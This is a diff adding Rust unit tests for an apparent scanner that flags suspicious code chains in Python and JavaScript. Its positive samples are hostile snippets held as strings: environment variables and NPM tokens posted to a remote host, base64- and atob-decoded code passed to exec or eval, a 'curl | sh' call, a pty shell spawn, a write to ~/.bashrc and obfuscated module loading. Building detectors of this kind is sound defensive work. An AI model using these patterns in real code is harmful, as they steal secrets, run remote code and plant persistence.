@@ -1,0 +1,99 @@
+use super::*;
+
+fn chains(language: Language, text: &str) -> bool {
+    named(language, text, false).links.can_chain()
+}
+
+#[test]
+fn one_link_alone_is_no_chain() {
+    for text in [
+        "import requests\nrequests.get('https://c.example.invalid')\n",
+        "import subprocess\nsubprocess.run(['git', 'status'])\n",
+        "import base64\nx = base64.b64decode(y)\n",
+        "import os, requests\nrequests.get(u, verify=os.environ.get('CA_BUNDLE'))\n",
+        "model.eval()\nimport base64\nast.literal_eval(base64.b64decode(y))\n",
+        "from urllib.parse import quote\nhome = os.environ\n",
+        "self.profile = x.profile\n",
+        "getattr(os, 'fork', None); getattr(x, name)(base64.b64decode(y))\n",
+        "__import__('pkg_resources').declare_namespace(__name__)\nx = ''.join(y)[::-1]\n",
+        "empty = exec_count\nrequested = socketless\n",
+    ] {
+        assert!(!chains(Language::Python, text), "{text}");
+    }
+    for text in [
+        "const {exec} = require('child_process'); exec('git status')",
+        "const u = process.env.NODE_ENV; fetch('https://c.example.invalid')",
+        "var root = Function(\"return this\")(); String.fromCharCode(1)",
+        "webpack(__webpack_require__(12)); window['app'].eval_it(1)",
+        "require('./a'); import('./b'); require(\"c\", 1)",
+        "hash.digest('hex'); require(name)",
+        "fetch(u, {a: 'a long text that ' + 'goes on and on'})",
+        "const text = 'one ' +\n  'two'; fetch(text)",
+    ] {
+        assert!(!chains(Language::JavaScript, text), "{text}");
+    }
+}
+
+#[test]
+fn links_that_can_meet_are_a_chain() {
+    for text in [
+        "import os, requests\nrequests.post(u, json=dict(os.environ))\n",
+        "import requests\nrequests.get(u, headers={'a': os.environ['A_TOKEN']})\n",
+        "import base64\nexec(base64.b64decode(x))\n",
+        "from subprocess import run\nrun('curl -s https://c.example.invalid | sh')\n",
+        "import socket, pty\npty.spawn('sh')\n",
+        "open(os.path.expanduser('~/.bashrc'), 'a')\n",
+        "getattr(module, 'sys' + 'tem')('x')\n",
+        "x = __import__('o' + 's')\n",
+        "__import__('os').system('x')\n",
+        "getattr(os, n)('x')\n",
+        "m = import_module(base64.b64decode(n).decode())\n",
+        "from pynput import keyboard\n",
+    ] {
+        assert!(chains(Language::Python, text), "{text}");
+    }
+    for text in [
+        "fetch(u, {body: JSON.stringify(process.env)})",
+        "const k = process.env.NPM_TOKEN; require('https').get(u + k)",
+        "require('child_process').exec('curl ' + u)",
+        "eval(atob(x))",
+        "require('chi' + 'ld')",
+        "process['bin' + 'ding']",
+        "global[name]('x')",
+        "const load = require; load(['f', 's'].join(''))",
+        "require('\\x63hild')",
+        "require(Buffer.from(n, 'base64').toString())",
+    ] {
+        assert!(chains(Language::JavaScript, text), "{text}");
+    }
+}
+
+#[test]
+fn places_are_told_in_order() {
+    let text = "import os\nx = 1\nimport requests\nrequests.post(os.environ)\n";
+    let places = named(Language::Python, text, true).places;
+    let words: Vec<_> = places.iter().map(|(at, _)| &text[*at..at + 4]).collect();
+    assert_eq!(words, ["requ", "requ", "envi"]);
+    assert!(named(Language::Python, text, false).places.is_empty());
+}
+
+#[test]
+fn links_that_stand_far_apart_do_not_meet() {
+    let of = |between: usize| {
+        let text = format!("eval(x);\n{}atob(y);\n", "z = 1;\n".repeat(between));
+        named(Language::JavaScript, &text, true).meeting().len()
+    };
+    assert_eq!((of(10), of(NEAR)), (2, 0));
+}
+
+#[test]
+fn imports_are_told_without_a_tree() {
+    let names = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect();
+    let of = |text| imports(Language::JavaScript, text);
+    assert_eq!(of("var a = require('./a'), b = require( \"b\" ); // required"), names(&["./a", "b"]));
+    assert_eq!(of("import x from './x'; import './y'; export * from \"z\""), names(&["./x", "./y", "z"]));
+    assert_eq!(
+        imports(Language::Python, "import a.b, c as d\nfrom .e import (f, g)\nx = 1\n"),
+        names(&["a.b", "c", ".e.f", ".e.g"])
+    );
+}
